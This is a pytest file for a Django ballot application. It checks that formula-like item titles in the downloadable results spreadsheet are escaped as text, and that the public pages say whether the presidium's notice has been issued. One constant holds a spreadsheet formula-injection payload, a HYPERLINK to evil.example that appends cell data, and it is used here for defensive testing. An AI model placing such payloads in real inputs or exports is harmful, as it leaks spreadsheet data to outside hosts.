"""The public result sheet: names that look like formulas stay text when the sheet is opened; the
result page and the board say whether the presidium's notice (公告) is issued."""

import datetime
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from ballots.models import Round
from ballots.services.rounds import round_close, round_create, round_publish
from tests.conftest import Cast, client_for
from tests.voting import cast_ballot, make_round, make_session, open_with_cards

TRAP = '=HYPERLINK("http://evil.example/?"&A1,"查看详情")'


def test_an_item_titled_like_a_formula_is_written_as_text(cast: Cast) -> None:
    session = make_session(cast.body, seats=3)
    round_ = round_create(
        session=session,
        code="R1",
        kind="selection",
        secrecy="secret",
        to_select=1,
        max_yes=None,
        items=[("P1", 1, TRAP, None), ("P2", 2, "@SUM(1,2)", None), ("P3", 3, "路灯", None)],
    )
    for card in open_with_cards(round_):
        cast_ballot("R1", card.code, {"P1": "yes"})
    round_close(round_=round_)
    client_for(cast.congress).post(
        reverse("round_act", kwargs={"body": cast.body.slug, "code": "R1", "action": "publish"})
    )
    content = Client().get(reverse("results_download", kwargs={"code": "R1", "kind": "xlsx"}))
    sheet = load_workbook(io.BytesIO(content.content)).active
    assert sheet is not None
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
    for text in (TRAP, "@SUM(1,2)"):
        assert (cells[text].data_type, cells[text].quotePrefix) == ("s", True)
    assert cells["路灯"].quotePrefix is False


NOTICE_AT = datetime.datetime(2027, 1, 15, 2, 30, tzinfo=datetime.UTC)  # 10:30 in Beijing


def _closed(cast: Cast) -> Round:
    round_ = make_round(make_session(cast.body, seats=3), items=3, to_select=1)
    for card in open_with_cards(round_):
        cast_ballot("R1", card.code, {"P1": "yes"})
    return round_close(round_=round_)


@pytest.mark.parametrize("page", ["results", "board"])
def test_the_public_pages_say_whether_the_presidiums_notice_is_issued(
    cast: Cast, page: str
) -> None:
    round_ = _closed(cast)
    url = reverse(page, kwargs={"code": "R1"})
    before = client_for(None, "en").get(url).content.decode()
    assert "已公告" not in before
    assert "This result has been public since voting closed at" in before
    assert "the presidium’s notice (公告) has not been issued yet" in before
    round_publish(round_=round_)
    Round.objects.filter(pk=round_.pk).update(results_published_at=NOTICE_AT)
    after = client_for(None).get(url).content.decode()
    notice = after.split('id="notice">', 1)[1].split("</p>", 1)[0]
    assert "已公告" in notice and "2027年1月15日 10:30" in notice
    assert "has not been issued" not in after
